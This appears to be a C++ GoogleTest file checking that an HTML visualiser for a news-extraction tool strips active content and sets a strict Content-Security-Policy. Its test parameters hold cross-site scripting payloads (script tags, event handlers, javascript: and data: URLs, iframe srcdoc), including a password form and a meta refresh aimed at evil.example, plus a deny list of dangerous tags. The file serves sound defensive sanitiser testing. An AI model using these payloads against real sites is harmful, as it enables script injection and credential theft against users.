// The picture of a page is opened in a browser by people who do not trust the page.
#include "daemon/explain/picture.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "sample.hpp"

namespace khabar::explain {
namespace {

using testing::AllOf;
using testing::HasSubstr;
using testing::Not;

std::string picture_of(std::string bytes) {
    return picture(explained(std::move(bytes)));
}

TEST(Picture, KeptIsGreenAndTheRestRedWithItsReason) {
    const std::string out = picture_of(news_page());
    EXPECT_THAT(out, HasSubstr("<span class=\"kept\" title=\"kept | weight"));
    EXPECT_THAT(out, HasSubstr("<span class=\"left\" title=\"navigation, by nav"));
    EXPECT_THAT(out, HasSubstr("<span class=\"left\" title=\"related, by div.related-posts"));
    EXPECT_THAT(out, HasSubstr("<div data-class=\"entry-content\" class=\"root\">"));
    EXPECT_THAT(out, HasSubstr("<tr class=\"left\"><td>related</td><td>1</td>"));
}

TEST(Picture, ForbidsEverythingButImagesBeforeAnythingOfThePage) {
    const std::string out = picture_of(news_page());
    const auto policy = out.find("http-equiv=\"Content-Security-Policy\"");
    ASSERT_NE(policy, out.npos);
    EXPECT_THAT(out, AllOf(HasSubstr("default-src 'none'"), HasSubstr("form-action 'none'")));
    EXPECT_LT(policy, out.find("Plan agreed"));
    EXPECT_THAT(out, HasSubstr("<base href=\"https://paper.example/plan\""));
}

struct Attack {
    const char* name;
    const char* markup;
};

class HostilePicture : public testing::TestWithParam<Attack> {};

TEST_P(HostilePicture, HoldsNothingThatRuns) {
    for (const std::string& page : {news_page(GetParam().markup), news_page("", GetParam().markup)}) {
        std::string out = picture_of(page);
        // Our own head and legend have the only style and meta elements.
        const std::string body = out.substr(out.find("<body>"));
        for (const auto bad :
             {"<script", "<iframe", "<object", "<embed", "<form", "<input", "<svg", "<style", "<meta",
              "<link", "<base", "<template", "<video", "javascript:", "data:", "srcdoc", "<math", "<x-"})
            EXPECT_THAT(body, Not(HasSubstr(bad)));
        // Whatever looks like a handler stands in text or in a quoted value, never as an attribute.
        for (const auto bad : {" onload=", " onerror=", " onclick=", " style=", " formaction="})
            EXPECT_THAT(body, Not(HasSubstr(bad)));
        EXPECT_THAT(out, HasSubstr("class=\"kept\""));
    }
}

INSTANTIATE_TEST_SUITE_P(
    , HostilePicture,
    testing::Values(
        Attack{"script", "<script>alert(1)</script>"},
        Attack{"handler", "<img src=x onerror=alert(1)><p onclick='alert(1)'>x</p>"},
        Attack{"script_address", "<a href='javascript:alert(1)'>x</a><a href=' java\nscript:alert(1)'>y</a>"},
        Attack{"data_address",
               "<img src='data:image/svg+xml,<svg onload=alert(1)>'><a href='data:text/html,x'>x</a>"},
        Attack{"frame",
               "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>"},
        Attack{
            "form",
            "<form action=https://evil.example><input name=password><button formaction=x>go</button></form>"},
        Attack{"style", "<style>.kept{display:none}</style><p style='position:fixed'>over</p>"},
        Attack{"svg", "<svg onload=alert(1)><script>alert(1)</script></svg><math><mtext></mtext></math>"},
        Attack{"meta",
               "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='javascript:'>"},
        Attack{"template", "<template><script>alert(1)</script></template><x-widget>w</x-widget>"},
        Attack{"textarea", "<textarea></textarea><script>alert(1)</script>"}),
    [](const auto& info) { return std::string(info.param.name); });

TEST(Picture, WhatThePageWritesStaysText) {
    const std::string out =
        picture_of(news_page("", "<p>&lt;script&gt;alert(1)&lt;/script&gt; \"quoted\" and more words, said "
                                 "the mayor of the valley, to come.</p>"
                                 "<p class='\"><script>' id=\"' onload='\">A line of its own with a class "
                                 "that is none, and that ends as one.</p>"));
    EXPECT_THAT(out, HasSubstr("&lt;script&gt;alert(1)&lt;/script&gt; &quot;quoted&quot;"));
    EXPECT_THAT(out, Not(HasSubstr("<script")));
    EXPECT_THAT(out, HasSubstr("data-class=\"&quot;&gt;&lt;script&gt;\""));
}

TEST(Picture, ThePagesOwnClassesCannotPassForOurs) {
    const std::string out = picture_of(news_page("", "<div class=kept>not kept at all</div>"));
    EXPECT_THAT(out, HasSubstr("<div data-class=\"kept\">"));
    EXPECT_THAT(out, Not(HasSubstr("<div class=\"kept\">")));
}

TEST(Picture, ImagesResolveAgainstThePage) {
    const std::string out = picture_of(news_page(
        "", "<img src=/i/1.jpg alt='A \"b\"'><img src='data:,x' data-src='late.jpg'><img src=ftp://x/y>"));
    EXPECT_THAT(out, HasSubstr("<img src=\"https://paper.example/i/1.jpg\" alt=\"A &quot;b&quot;\""));
    EXPECT_THAT(out, HasSubstr("<img src=\"https://paper.example/late.jpg\""));
    EXPECT_THAT(out, Not(HasSubstr("ftp:")));
}

TEST(Picture, RightToLeftPagesKeepTheirDirectionAndTheLegendItsOwn) {
    const std::string out = picture_of("<html dir=rtl lang=ar><body><p>" + std::string(story) +
                                       "\u202e reversed, he said, and went.</p></body></html>");
    EXPECT_THAT(out, HasSubstr("<div dir=\"rtl\" lang=\"ar\">"));
    EXPECT_THAT(out, HasSubstr("<div class=\"legend\" dir=\"ltr\">"));
    EXPECT_THAT(out, Not(HasSubstr("\u202e")));
    EXPECT_THAT(picture_of(news_page()), HasSubstr("<div dir=\"auto\">"));
}

TEST(Picture, APageThatCannotBeParsedIsSaidToBeSo) {
    const std::string out = picture_of("  \n ");
    EXPECT_THAT(out, HasSubstr("<b>No article:</b> <bdi>empty"));
}

} // namespace
} // namespace khabar::explain
